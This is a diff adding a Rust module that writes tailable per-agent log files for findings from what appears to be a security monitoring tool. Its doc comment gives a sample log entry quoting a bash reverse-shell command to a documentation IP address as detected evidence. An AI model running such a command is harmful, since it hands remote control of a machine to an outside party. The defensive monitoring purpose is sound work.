@@ -1,0 +1,114 @@
+//! `<agent>.log`: what one analyst saw, made for `tail -F`.
+
+use std::collections::HashMap;
+use std::fmt::Write as _;
+use std::fs::{File, OpenOptions};
+use std::io::{self, Write as _};
+use std::path::{Path, PathBuf};
+
+use jiff::Timestamp;
+
+use crate::config::log_name;
+use crate::finding::{Finding, printable};
+
+#[derive(Debug)]
+pub(super) struct AgentLogs {
+    folder: PathBuf,
+    files: HashMap<String, File>,
+}
+
+impl AgentLogs {
+    /// Creates the logs of these agents, so that they can be tailed before
+    /// anything is found; others follow when they first report.
+    pub(super) fn open(folder: &Path, agents: &[String]) -> io::Result<Self> {
+        let mut logs = Self {
+            folder: folder.to_owned(),
+            files: HashMap::new(),
+        };
+        for agent in agents {
+            logs.file(agent)?;
+        }
+        Ok(logs)
+    }
+
+    pub(super) fn finding(&mut self, finding: &Finding) {
+        self.write(&finding.agent, &block(finding));
+    }
+
+    pub(super) fn note(&mut self, agent: &str, text: &str) {
+        let line = format!(
+            "{}  --        {}\n",
+            second(Timestamp::now()),
+            printable(text)
+        );
+        self.write(agent, &line);
+    }
+
+    /// `findings.jsonl` is the record; a log that can't be written is said on
+    /// the server's own output and costs no finding.
+    fn write(&mut self, agent: &str, text: &str) {
+        let written = self
+            .file(agent)
+            .and_then(|mut file| file.write_all(text.as_bytes()));
+        if let Err(error) = written {
+            tracing::error!(agent, %error, "failed to write to the agent's log");
+        }
+    }
+
+    fn file(&mut self, agent: &str) -> io::Result<&File> {
+        let name = log_name(agent);
+        if !self.files.contains_key(&name) {
+            let file = OpenOptions::new()
+                .append(true)
+                .create(true)
+                .open(self.folder.join(&name))?;
+            self.files.insert(name.clone(), file);
+        }
+        Ok(&self.files[&name])
+    }
+}
+
+/// ```text
+/// 2026-11-23T09:14:05Z  CRITICAL  Reverse shell in a terminal  (team, 12.3 s)
+///     > bash -i >& /dev/tcp/203.0.113.45/4444 0>&1
+///     A shell was connected to an outside address.
+///     do: Isolate the host and keep its memory.
+/// ```
+fn block(finding: &Finding) -> String {
+    let mut text = String::new();
+    let severity = finding.severity.as_str().to_uppercase();
+    // Writing to a String does not fail.
+    let _ = writeln!(
+        text,
+        "{}  {severity:<8}  {}  ({}, {}.{} s)",
+        second(finding.observed_at),
+        printable(&finding.title),
+        finding.stream,
+        finding.frame.pts_ms.div_euclid(1000),
+        finding.frame.pts_ms.rem_euclid(1000) / 100,
+    );
+    for evidence in finding
+        .evidence
+        .iter()
+        .filter(|evidence| !evidence.quote.is_empty())
+    {
+        let mark = if evidence.grounded == Some(false) {
+            "  [not found on screen]"
+        } else {
+            ""
+        };
+        let _ = writeln!(text, "    > {}{mark}", printable(&evidence.quote));
+    }
+    if !finding.detail.is_empty() {
+        let _ = writeln!(text, "    {}", printable(&finding.detail));
+    }
+    if !finding.recommended_action.is_empty() {
+        let _ = writeln!(text, "    do: {}", printable(&finding.recommended_action));
+    }
+    text
+}
+
+/// RFC 3339 in whole seconds, UTC.
+fn second(at: Timestamp) -> String {
+    at.strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
+}
